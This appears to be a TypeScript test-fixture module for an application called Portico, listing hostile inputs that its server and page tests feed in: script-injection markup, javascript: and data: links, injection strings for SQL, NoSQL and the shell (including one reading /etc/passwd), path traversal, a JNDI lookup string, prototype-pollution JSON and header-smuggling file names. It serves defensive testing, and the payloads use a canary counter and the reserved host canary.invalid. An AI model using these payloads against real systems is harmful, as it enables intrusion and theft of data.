/** What an attacker writes where words are expected. Shared by the tests of the server and of the pages. */

/** Sets this on the page when any of it runs. */
export const CANARY = '__portico_ran'
/** Nothing may ever be asked of this host. */
export const FOREIGN = 'canary.invalid'

const RUN = `window.${CANARY}=(window.${CANARY}||0)+1`
const LOAD = `//${FOREIGN}`

/** Markup, script and Markdown that would run if it were taken for more than words. */
export const SCRIPTS = [
  `<script>${RUN}</script>`,
  `"><script src="${LOAD}/x.js"></script>`,
  `<img src=x onerror="${RUN}">`,
  `'"><svg/onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.${CANARY}=1</script>"></iframe>`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<style>@import '${LOAD}/x.css';*{background:url(${LOAD}/b)}</style>`,
  `<link rel=stylesheet href=${LOAD}/x.css><meta http-equiv=refresh content="0;url=${LOAD}">`,
  `<form action=https:${LOAD}><button autofocus onfocus="${RUN}">go</button></form>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<template v-html="'<img src=x onerror=${RUN}>'"></template>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;&#60;img src=x onerror=${RUN}&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
] as const

/** Addresses that run or leave, plain, encoded and disguised. */
export const LINKS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `%6Aavascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+`,
  `vbscript:msgbox(1)`,
  `blob:https://${FOREIGN}/x`,
  `file:///etc/passwd`,
  `view-source:https://${FOREIGN}`,
  `intent://x#Intent;scheme=https;end`,
  `//${FOREIGN}/x`,
  `\\\\${FOREIGN}\\x`,
  `https:${FOREIGN}\\@bank.example`,
  `https://bank.example@${FOREIGN}/`,
  `https://xn--80ak6aa92e.example/`,
] as const

/** The same in Markdown, which is only read of staff and virtual agents; a customer's is words. */
export const MARKDOWN = [
  ...LINKS.map((link) => `[click](${link})`),
  ...LINKS.map((link) => `![picture](${link})`),
  `<${LINKS[0]}>`,
  `[ref]\n\n[ref]: ${LINKS[0]}`,
  `[![nested](${LINKS[0]})](${LINKS[9]})`,
  '[a](<javascript:alert(1)> "title")',
] as const

/** Characters that break parsers, layouts and the reader's trust. */
export const CHARACTERS = [
  'null \u0000 byte',
  'lone \ud800 surrogate \udfff',
  'photo\u202egnp.exe',
  '\u2066isolate\u2069\u200e\u200f\u061c',
  `zalgo ${'h\u0301\u0316\u0317\u0318\u0319\u031a'.repeat(40)}`,
  'zero\u200bwidth\ufeff\u2060',
  '\u001b[2J\u0007\u0008 terminal',
  'CRLF\r\nBcc: victim@example.org\r\n\r\n',
  '\u2028\u2029 separators',
  '👩‍👩‍👧‍👦'.repeat(30),
  '﷽'.repeat(50),
] as const

/** Languages of other machines: of databases, shells, templates, mails, paths, typesetters. */
export const FOREIGN_LANGUAGES = [
  "'; DROP TABLE messages; --",
  "1' OR '1'='1",
  '{"$gt": ""}',
  '$(touch /tmp/portico-ran) `id` | cat /etc/passwd',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd%00.png',
  '=HYPERLINK("https://canary.invalid","x")',
  '#read("/etc/passwd") #panic("x")',
  '${jndi:ldap://canary.invalid/x}',
  '__proto__',
  'constructor',
  'toString',
] as const

export const TEXTS: readonly string[] = [
  ...SCRIPTS,
  ...LINKS,
  ...CHARACTERS,
  ...FOREIGN_LANGUAGES,
  '',
  ' ',
  'a'.repeat(20_000),
]

/** Values of a wrong type, for whatever is expected. */
export const VALUES: readonly unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  1e308,
  2 ** 31,
  Number.MAX_SAFE_INTEGER,
  Number.MAX_SAFE_INTEGER + 1,
  [],
  [[]],
  [null],
  {},
  { length: 1e9 },
  { toString: 'x', valueOf: 'y' },
  Array.from({ length: 2000 }, () => 0),
]

export function nested(depth: number, open: string, close: string): string {
  return open.repeat(depth) + close.repeat(depth)
}

/** Bodies that are no sound JSON object: every one of them is refused. */
export const RAW_BODIES: readonly string[] = [
  '',
  'null',
  '[]',
  '"text"',
  '7',
  'true',
  '{',
  '{"a":1',
  '{"a":}',
  '{a:1}',
  "{'a':1}",
  'NaN',
  '\u0000',
  '\ufeff{}x',
  '{"__proto__":{"admin":true}}',
  '{"constructor":{"prototype":{"admin":true}}}',
  '{"message":{"__proto__":{"admin":true}}}',
  '{"toString":1,"hasOwnProperty":1}',
  nested(50_000, '[', ']'),
  nested(20_000, '{"a":', '1}').replace('1}', '1}'),
  `{"key":"${'x'.repeat(300_000)}"}`,
  `{${Array.from({ length: 5000 }, (_, at) => `"k${at}":${at}`).join(',')}}`,
]

/** Parts of paths, as they stand in an address. */
export const PATHS: readonly string[] = [
  '0',
  '-1',
  '1.5',
  '1e9',
  '2147483648',
  '4294967297',
  '9007199254740991',
  '9007199254740993',
  '99999999999999999999999',
  'NaN',
  'null',
  '__proto__',
  'constructor',
  '%00',
  '%ff',
  '%',
  '%E0%A4%A',
  '..%2f..%2fetc%2fpasswd',
  '..',
  encodeURIComponent(SCRIPTS[0]),
  encodeURIComponent(FOREIGN_LANGUAGES[1]),
  '1%20OR%201=1',
  'x'.repeat(3000),
]

export const FILE_NAMES: readonly string[] = [
  '<img src=x onerror=window.__portico_ran=1>.png',
  '../../../../etc/passwd',
  '..\\..\\windows\\system32\\x.dll',
  'photo\u202egnp.exe',
  'null\u0000.png',
  `${'long'.repeat(200)}.png`,
  '.htaccess',
  'CON',
  'a\r\nContent-Type: text/html\r\n\r\n<script>',
  '"; filename="other.html',
  '',
  '   ',
]
